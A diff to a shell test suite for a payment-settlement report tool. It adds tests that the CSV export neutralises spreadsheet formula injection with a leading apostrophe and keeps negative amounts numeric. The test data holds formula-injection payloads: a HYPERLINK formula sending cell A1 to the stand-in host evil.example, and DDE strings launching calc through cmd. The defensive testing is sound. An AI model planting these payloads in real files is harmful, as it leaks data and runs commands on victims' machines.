@@ -98,6 +98,33 @@ t_eq "C CSV uses ',' separators, dots and ISO dates" "2026-11-20;3457.59;1000.00
 t_contains "C HTML groups with commas" "$(t_sql "SELECT to_char(sum(s.amount_paid_cents)::bigint / 100, 'FM999,999,990') || '.' || lpad((sum(s.amount_paid_cents)::bigint % 100)::text, 2, '0') FROM settlements s JOIN return_files f ON f.id = s.file_id WHERE s.paid AND f.received_at $DAY")" \
   "$(cat "$T_TMP/c/exceptions-20261128.html")"
 
+# --- formula injection (OWASP): names from payments and bank files that a
+# spreadsheet would run are written with a leading apostrophe; our numbers,
+# negative ones included, stay numbers.
+t_sql "WITH x AS (SELECT e.id, e.payment_id, e.settlement_id, row_number() OVER (ORDER BY e.id) AS k $OPEN),
+            n AS (SELECT x.*, (ARRAY['=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")', '+cmd|'' /C calc''!A0',
+                                     '-2+3+cmd|'' /C calc''!A0', '@SUM(1+1)*cmd|'' /C calc''!A0'])[k] AS name
+                    FROM x WHERE k <= 4),
+            p AS (UPDATE payments SET customer_name = n.name FROM n WHERE payments.id = n.payment_id RETURNING 1)
+       UPDATE settlements SET payer_name = n.name FROM n WHERE settlements.id = n.settlement_id AND n.payment_id IS NULL" >/dev/null
+neg=$(t_sql "SELECT max(e.id) $OPEN")
+t_sql "UPDATE exceptions SET paid_cents = -1234 WHERE id = $neg" >/dev/null
+t_run out "$SETTLE" report --date $D --output "$T_TMP/formula"
+t_eq "report with formula names exits 0" 0 "$out_rc"
+frows=$(tail -c +4 "$T_TMP/formula/exceptions-20261128.csv" | "$CSVDUMP" ';')
+fnames=$(awk -F'\t' 'NR > 1 { print $6 }' <<<"$frows")
+for n in "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")" "'+cmd|' /C calc'!A0" "'-2+3+cmd|' /C calc'!A0" "'@SUM(1+1)*cmd|' /C calc'!A0"; do
+  t_eq "formula name written as text: $n" "1" "$(grep -cxF -- "$n" <<<"$fnames")"
+done
+t_eq "no cell of the CSV starts with = + - @ but our numbers" "" \
+  "$(awk -F'\t' 'NR > 1 { for (i = 1; i <= NF; i++) if ($i ~ /^[=+@-]/ && $i !~ /^-[0-9]+,[0-9][0-9]$/) print i ": " $i }' <<<"$frows")"
+t_eq "a negative amount stays a number" "-12,34" "$(awk -F'\t' -v id="$neg" '$1 == id { print $11 }' <<<"$frows")"
+ccsv2=$("$SETTLE" report --date $D --locale C --output "$T_TMP/formula-c" >/dev/null 2>&1 && "$CSVDUMP" ',' <"$T_TMP/formula-c/exceptions-20261128.csv")
+t_eq "C locale: a negative amount stays a number" "-12.34" "$(awk -F'\t' -v id="$neg" '$1 == id { print $11 }' <<<"$ccsv2")"
+t_contains "C locale: formula names start with an apostrophe" "'=HYPERLINK(" "$ccsv2"
+t_contains "the HTML shows the name as it is (escaped, no apostrophe)" "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" \
+  "$(cat "$T_TMP/formula/exceptions-20261128.html")"
+
 # --- a day with nothing, and bad arguments
 t_run out "$SETTLE" report --date 2026-01-01 --output "$T_TMP/empty"
 t_eq "empty day exits 0" 0 "$out_rc"
